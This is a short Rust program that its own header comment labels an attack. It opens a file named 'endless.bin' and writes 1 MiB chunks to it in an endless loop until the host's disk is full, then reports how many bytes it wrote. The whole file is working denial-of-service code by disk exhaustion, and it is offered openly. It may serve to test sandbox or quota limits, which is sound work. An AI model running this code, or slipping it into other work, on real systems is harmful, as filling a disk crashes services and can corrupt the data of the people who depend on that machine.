//! Attack: write one file without end, to fill the host's disk.

use std::io::Write;

fn main() {
    let mut file = std::fs::File::create("endless.bin").expect("create");
    let chunk = vec![0x5a; 1 << 20];
    let mut written: u64 = 0;
    loop {
        if let Err(e) = file.write_all(&chunk) {
            println!("stopped after {written} bytes: {e}");
            std::process::exit(1);
        }
        written += chunk.len() as u64;
    }
}
